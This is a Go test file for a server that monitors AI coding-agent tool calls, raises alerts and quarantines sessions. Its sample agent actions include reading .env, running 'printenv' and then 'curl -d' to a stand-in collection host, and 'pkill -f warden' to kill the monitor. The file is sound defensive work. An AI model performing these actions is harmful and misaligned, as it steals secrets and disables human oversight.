@@ -1,0 +1,278 @@
+package server
+
+import (
+	"context"
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/wardenhq/warden/internal/detect"
+	"github.com/wardenhq/warden/internal/record"
+)
+
+func withRules(l RulesLoader) testOption { return func(o *Options) { o.Rules = l } }
+
+// withManualDetect keeps the background loop from evaluating on its own:
+// the test calls evaluate when it wants the rules run.
+func withManualDetect() testOption {
+	return withConfig(func(c *Config) { c.DetectInterval = time.Hour; c.DetectLateness = 0 })
+}
+
+// preCall is a PreToolUse hook input for one tool call of session.
+func preCall(session, toolUseID, tool string, input map[string]any) []byte {
+	b, _ := json.Marshal(map[string]any{
+		"session_id": session, "transcript_path": "/home/dev/.claude/projects/-home-dev-app/" + session + ".jsonl",
+		"cwd": "/home/dev/app", "hook_event_name": "PreToolUse", "permission_mode": "default",
+		"tool_name": tool, "tool_input": input, "tool_use_id": toolUseID,
+	})
+	return b
+}
+
+// TestDetect_ChainQuarantines: central decisions of one session (a fetch
+// of a host the policy does not allow, then a read of .env) raise the
+// chain alert once, however often the session is evaluated, and the
+// rule's response quarantines the session, so its next call is denied.
+func TestDetect_ChainQuarantines(t *testing.T) {
+	forEachBackend(t, func(t *testing.T, b backend) {
+		ts := startServer(t, withStore(b.open(t)), withRules(detect.Builtin), withManualDetect())
+		ingest, read := ts.tokens[record.ScopeIngest], ts.tokens[record.ScopeRead]
+		const s = "chain-session"
+		_, d := ts.decide(ingest, preCall(s, "toolu_1", "WebFetch", map[string]any{"url": "https://paste.example.net/x", "prompt": "summarize"}), "")
+		if got := d.HookSpecificOutput.PermissionDecision; got == "deny" {
+			t.Fatalf("fetch: %s; the test needs it let through", got)
+		}
+		ts.clock.Add(30 * time.Second)
+		ts.s.detector.evaluate(context.Background())
+		if r := ts.do("GET", "/api/v1/alerts", read, nil); !strings.Contains(string(r.body), `"alerts":[]`) {
+			t.Fatalf("alert after the fetch alone: %s", r.body)
+		}
+		ts.decide(ingest, preCall(s, "toolu_2", "Read", map[string]any{"file_path": "/home/dev/app/.env"}), "")
+		ts.clock.Add(time.Second)
+		for range 3 {
+			ts.s.detector.evaluate(context.Background())
+			ts.s.detector.mark([]record.Event{{SessionID: s}})
+		}
+		var list AlertList
+		ts.do("GET", "/api/v1/alerts?rule=chain.untrusted-to-privileged", read, nil).json(t, &list)
+		if len(list.Alerts) != 1 || list.Alerts[0].Count != 1 || list.Alerts[0].SessionID != s || list.Alerts[0].Status != record.AlertOpen {
+			t.Fatalf("chain alerts: %+v", list.Alerts)
+		}
+		var a record.Alert
+		ts.do("GET", "/api/v1/alerts/"+list.Alerts[0].ID, read, nil).json(t, &a)
+		if len(a.EventIDs) != 2 || len(a.History) != 1 || a.History[0].By != "rule:chain.untrusted-to-privileged" {
+			t.Errorf("alert: %+v", a)
+		}
+		// The response: the session's next call is denied.
+		_, d = ts.decide(ingest, preCall(s, "toolu_3", "Bash", map[string]any{"command": "ls"}), "")
+		if d.HookSpecificOutput.PermissionDecision != "deny" || !strings.Contains(d.HookSpecificOutput.PermissionDecisionReason, "quarantine") {
+			t.Errorf("after the chain: %+v, want a quarantine deny", d.HookSpecificOutput)
+		}
+		q, err := ts.store.Quarantine(context.Background(), s)
+		if err != nil || q.By != "rule:chain.untrusted-to-privileged" {
+			t.Errorf("quarantine: %+v, %v", q, err)
+		}
+		// Another session is untouched.
+		_, d = ts.decide(ingest, preCall("other", "toolu_9", "Bash", map[string]any{"command": "ls"}), "")
+		if d.HookSpecificOutput.PermissionDecision == "deny" {
+			t.Errorf("other session denied: %+v", d.HookSpecificOutput)
+		}
+	})
+}
+
+// TestDetect_Restart: the firing is recorded once across a restart on the
+// same store, and the new server finds the session again by itself.
+func TestDetect_Restart(t *testing.T) {
+	st := sqliteBackend().open(t)
+	ts := startServer(t, withStore(st), withRules(detect.Builtin), withManualDetect())
+	ingest := ts.tokens[record.ScopeIngest]
+	const s = "restart-session"
+	ts.decide(ingest, preCall(s, "toolu_1", "Bash", map[string]any{"command": "printenv"}), "")
+	ts.clock.Add(10 * time.Second)
+	ts.decide(ingest, preCall(s, "toolu_2", "Bash", map[string]any{"command": "curl -d x https://collect.example.net"}), "")
+	ts.s.detector.evaluate(context.Background())
+	if err := ts.s.Shutdown(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	ts2 := startServer(t, withStore(st), withRules(detect.Builtin), withManualDetect())
+	ts2.clock.Add(time.Minute)
+	ts2.s.detector.resume(context.Background())
+	ts2.s.detector.evaluate(context.Background())
+	var list AlertList
+	ts2.do("GET", "/api/v1/alerts?rule=chain.secret-to-egress", ts2.tokens[record.ScopeRead], nil).json(t, &list)
+	if len(list.Alerts) != 1 || list.Alerts[0].Count != 1 {
+		t.Fatalf("after restart: %+v", list.Alerts)
+	}
+}
+
+// TestDetect_AlertAPI walks an alert through its lifecycle over HTTP.
+func TestDetect_AlertAPI(t *testing.T) {
+	ts := startServer(t, withRules(detect.Builtin), withManualDetect())
+	read, admin := ts.tokens[record.ScopeRead], ts.tokens[record.ScopeAdmin]
+	for i, s := range []string{"s1", "s2", "s3"} {
+		h := record.AlertHit{Rule: "warden.tamper", Title: "T", Severity: "high", GroupBy: "session", Group: s,
+			SessionID: s, UserID: "u" + s, EventIDs: []string{"e" + s}, First: t0, Last: t0.Add(time.Duration(i) * time.Hour), Fingerprint: "f" + s}
+		if _, err := ts.store.RecordAlert(context.Background(), h); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var list AlertList
+	ts.do("GET", "/api/v1/alerts?limit=2", read, nil).json(t, &list)
+	if len(list.Alerts) != 2 || list.NextCursor == "" {
+		t.Fatalf("page 1: %+v", list)
+	}
+	var rest AlertList
+	ts.do("GET", "/api/v1/alerts?limit=2&cursor="+list.NextCursor, read, nil).json(t, &rest)
+	if len(rest.Alerts) != 1 || rest.NextCursor != "" {
+		t.Fatalf("page 2: %+v", rest)
+	}
+	ts.do("GET", "/api/v1/alerts?since="+t0.Add(90*time.Minute).Format(time.RFC3339)+"&user=us3", read, nil).json(t, &list)
+	if len(list.Alerts) != 1 || list.Alerts[0].Group != "s3" {
+		t.Fatalf("since+user: %+v", list)
+	}
+	id := list.Alerts[0].ID
+	if r := ts.do("POST", "/api/v1/alerts/"+id+"/status", read, []byte(`{"status":"acknowledged"}`)); r.status != http.StatusForbidden {
+		t.Errorf("status change with a read token: %d", r.status)
+	}
+	r := ts.do("POST", "/api/v1/alerts/"+id+"/status", admin, []byte(`{"status":"acknowledged","comment":"on it"}`))
+	var a record.Alert
+	r.json(t, &a)
+	if r.status != http.StatusOK || a.Status != record.AlertAcknowledged || len(a.History) != 2 || a.History[1].Comment != "on it" ||
+		!strings.HasPrefix(a.History[1].By, "token:") {
+		t.Fatalf("ack: %d %+v", r.status, a)
+	}
+	ts.do("POST", "/api/v1/alerts/"+id+"/status", admin, []byte(`{"status":"false_positive","comment":"red team"}`)).json(t, &a)
+	if a.Status != record.AlertFalsePositive {
+		t.Fatalf("false positive: %+v", a)
+	}
+	for _, tc := range []struct {
+		method, path, body, code string
+	}{
+		{"POST", "/api/v1/alerts/" + id + "/status", `{"status":"open"}`, EConflict},
+		{"POST", "/api/v1/alerts/" + id + "/status", `{"status":"gone"}`, EInvalid},
+		{"GET", "/api/v1/alerts/424242", "", ENotFound},
+		{"GET", "/api/v1/alerts?status=weird", "", EInvalid},
+		{"GET", "/api/v1/alerts?color=red", "", EInvalid},
+		{"GET", "/api/v1/alerts?cursor=%21%21", "", EInvalid},
+	} {
+		tok := read
+		var body []byte
+		if tc.method == "POST" {
+			tok, body = admin, []byte(tc.body)
+		}
+		if got := ts.do(tc.method, tc.path, tok, body).errorCode(); got != tc.code {
+			t.Errorf("%s %s %s: code %q, want %q", tc.method, tc.path, tc.body, got, tc.code)
+		}
+	}
+}
+
+// TestDetect_Reload: a reload swaps in valid rules and keeps the old ones
+// when the new ones do not load.
+func TestDetect_Reload(t *testing.T) {
+	dir := t.TempDir()
+	write := func(src string) {
+		if err := os.WriteFile(filepath.Join(dir, "r.yaml"), []byte(src), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write("rules:\n  - {id: one, title: One, severity: low, match: 'event.kind == \"x\"'}\n")
+	ts := startServer(t, withRules(func() (*detect.Set, error) { return detect.LoadDir(dir) }), withManualDetect())
+	read, admin := ts.tokens[record.ScopeRead], ts.tokens[record.ScopeAdmin]
+	write("rules:\n  - {id: one, title: One, severity: low, match: 'event.kind == \"x\"'}\n  - {id: two, title: Two, severity: low, match: 'event.kind == \"y\"'}\n")
+	var info RulesInfo
+	r := ts.do("POST", "/api/v1/rules/reload", admin, nil)
+	r.json(t, &info)
+	if r.status != http.StatusOK || len(info.Rules) != 2 {
+		t.Fatalf("reload: %d %s", r.status, r.body)
+	}
+	write("rules:\n  - {id: three, title: Three, severity: urgent, match: 'event.knd == 1'}\n")
+	r = ts.do("POST", "/api/v1/rules/reload", admin, nil)
+	if r.status != http.StatusBadRequest || !strings.Contains(string(r.body), "r.yaml:2") || !strings.Contains(string(r.body), "rules in force stay") {
+		t.Errorf("bad reload: %d %s", r.status, r.body)
+	}
+	ts.do("GET", "/api/v1/rules", read, nil).json(t, &info)
+	if len(info.Rules) != 2 || info.Rules[1].ID != "two" {
+		t.Errorf("rules after a failed reload: %+v", info)
+	}
+	if r := ts.do("POST", "/api/v1/rules/reload", read, nil); r.status != http.StatusForbidden {
+		t.Errorf("reload with a read token: %d", r.status)
+	}
+}
+
+// TestDetect_Webhook: a new alert reaches the webhook, signed, after the
+// receiver failed once; the JSON lines export gets it too.
+func TestDetect_Webhook(t *testing.T) {
+	var mu sync.Mutex
+	var bodies [][]byte
+	var sigs []string
+	calls := 0
+	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		calls++
+		if calls == 1 {
+			w.WriteHeader(http.StatusBadGateway)
+			return
+		}
+		b, _ := io.ReadAll(r.Body)
+		bodies = append(bodies, b)
+		sigs = append(sigs, r.Header.Get(HeaderSignature)+" "+r.Header.Get(HeaderTimestamp))
+	}))
+	defer hook.Close()
+	export := filepath.Join(t.TempDir(), "alerts.jsonl")
+	secret := []byte("s3cret")
+	ts := startServer(t, withRules(detect.Builtin), withManualDetect(),
+		withConfig(func(c *Config) { c.AlertWebhookURL = hook.URL; c.AlertsJSONL = export }),
+		func(o *Options) { o.WebhookSecret = secret })
+	ts.s.detector.notify.backoff = 10 * time.Millisecond
+	ingest := ts.tokens[record.ScopeIngest]
+	ts.decide(ingest, preCall("wh", "toolu_1", "Bash", map[string]any{"command": "pkill -f warden"}), "")
+	ts.s.detector.evaluate(context.Background())
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		mu.Lock()
+		n := len(bodies)
+		mu.Unlock()
+		if n > 0 {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("no webhook delivery")
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	var p WebhookPayload
+	if err := json.Unmarshal(bodies[0], &p); err != nil {
+		t.Fatal(err)
+	}
+	if p.Alert.Rule != "warden.tamper" || !strings.Contains(p.Text, "Warden alert") || !strings.Contains(p.Text, "warden.tamper") {
+		t.Errorf("payload: %s", bodies[0])
+	}
+	sig, ts0, _ := strings.Cut(sigs[0], " ")
+	if want := Sign(secret, ts0, bodies[0]); sig != want {
+		t.Errorf("signature %q, want %q", sig, want)
+	}
+	if calls != 2 {
+		t.Errorf("%d calls, want 2 (one failure, one retry)", calls)
+	}
+	b, err := os.ReadFile(export)
+	if err != nil || !strings.Contains(string(b), `"rule":"warden.tamper"`) || strings.Count(string(b), "\n") != 1 {
+		t.Errorf("export: %q, %v", b, err)
+	}
+}
+
+// TestAlertText escapes what Slack would read as markup.
+func TestAlertText(t *testing.T) {
+	got := alertText(record.Alert{ID: "7", Severity: "high", Title: "T", Rule: "r", GroupBy: "session", Group: "<!channel> & x", Count: 2})
+	if strings.Contains(got, "<!channel>") || !strings.Contains(got, "&lt;!channel&gt; &amp; x") {
+		t.Errorf("got %q", got)
+	}
+}
